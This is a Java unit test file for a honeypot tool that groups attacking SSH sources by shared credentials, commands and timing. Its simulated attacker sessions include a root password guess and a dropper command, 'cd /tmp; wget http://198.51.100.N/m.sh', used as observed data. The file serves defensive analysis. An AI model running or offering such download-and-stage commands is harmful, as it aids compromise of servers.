package yochi.node.habit;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import yochi.core.model.Service;
import yochi.node.observation.HoneypotSession;
import yochi.node.observation.Said;

/** Habits of groups of sources, and what a running node hears (M-2). */
class HabitDeskTest {
    private static final Instant START = Instant.parse("2026-01-01T13:00:00Z");

    private static HoneypotSession session(int source, int second, Said said) {
        return SaidSessions.of(new byte[] {(byte) 192, 0, 2, (byte) source}, START.plusSeconds(second), said);
    }

    private static Said bot(String password, int serial) {
        return new Said(
                List.of("root/" + password),
                List.of("cd /tmp; wget http://198.51.100." + serial + "/m.sh"),
                List.of(),
                List.of("SSH-2.0-Go"));
    }

    @Test
    void sourcesThatRunTheSameScriptAreOneGroupWhateverAddressItNames() {
        HabitDesk desk = new HabitDesk();
        for (int source = 1; source <= 12; source++) {
            desk.add(session(source, 10 * source, bot(source <= 9 ? "a" : "b", source)));
            desk.add(session(source, 10 * source + 300, bot("a", source)));
        }
        desk.add(session(99, 7, new Said(List.of("x/y"), List.of(), List.of(), List.of())));
        List<Habit> habits = desk.habits();
        assertThat(habits).hasSize(2);
        Habit bots = habits.getFirst();
        assertThat(bots.by()).isEqualTo("commands");
        assertThat(bots.sessions()).isEqualTo(24);
        assertThat(bots.sources()).isEqualTo(12);
        assertThat(bots.networks()).isEqualTo(1);
        assertThat(bots.words().get(WordKind.COMMANDS))
                .extracting(Habit.Word::word)
                .containsExactly("cd /tmp", "wget {host}/m.sh");
        assertThat(bots.words().get(WordKind.CREDENTIALS))
                .containsExactly(new Habit.Word("root/a", 12, 1, 21), new Habit.Word("root/b", 3, 1, 3));
        assertThat(bots.timing().gaps()).isEqualTo(Map.of(256L, 12L));
        assertThat(bots.timing().lasted()).isEqualTo(Map.of(4L, 24L));
        assertThat(bots.timing().hours().get(13)).isEqualTo(24);
        assertThat(habits.get(1).by()).isEqualTo("none");
        assertThat(desk.notHeld()).isZero();
    }

    @Test
    void whatFindsNoRoomIsCountedAndNothingElseIsLost() {
        HabitDesk small = new HabitDesk(2, 3, 8);
        for (int source = 1; source <= 20; source++) {
            small.add(session(source, source, new Said(
                    List.of("u/" + source), List.of("run " + "x".repeat(source)), List.of(), List.of())));
        }
        List<Habit> habits = small.habits();
        assertThat(habits.size()).isLessThanOrEqualTo(3);
        assertThat(habits.stream().mapToLong(Habit::sessions).sum()).isEqualTo(20);
        assertThat(habits.stream()
                        .flatMap(h -> h.words().values().stream())
                        .mapToLong(List::size)
                        .sum())
                .isEqualTo(3);
        assertThat(habits.stream().mapToLong(Habit::further).sum()).isEqualTo(37);
        assertThat(small.notHeld()).isPositive();
    }

    @Test
    void aRunningNodeHearsHowManySaidAWordInAWindowAndForgetsIt() {
        WordWatch watch = new WordWatch(WordWatch.MOST);
        for (int source = 1; source <= 11; source++) {
            watch.session(session(source, 60 * source, bot("a", source)));
            watch.session(session(source, 60 * source + 1, bot("a", source)));
        }
        List<UsedWord> all = watch.said(START, START.plusSeconds(3600));
        assertThat(all).containsExactly(
                new UsedWord(WordKind.CREDENTIALS, Service.tcp(22), "root/a", 11, 1),
                new UsedWord(WordKind.COMMANDS, Service.tcp(22), "cd /tmp", 11, 1),
                new UsedWord(WordKind.COMMANDS, Service.tcp(22), "wget {host}/m.sh", 11, 1),
                new UsedWord(WordKind.TEXTS, Service.tcp(22), "SSH-2.0-Go", 11, 1));
        assertThat(watch.said(START, START.plusSeconds(180))).allMatch(w -> w.sources() == 2);
        watch.forget(START.plusSeconds(600));
        assertThat(watch.said(START, START.plusSeconds(3600))).allMatch(w -> w.sources() == 2);
        assertThat(watch.notHeld()).isZero();
        WordWatch small = new WordWatch(2);
        small.session(session(1, 0, bot("a", 1)));
        small.session(session(1, 1, bot("a", 1)));
        assertThat(small.notHeld()).isEqualTo(4);
        assertThat(small.said(START, START.plusSeconds(60))).hasSize(2);
    }
}
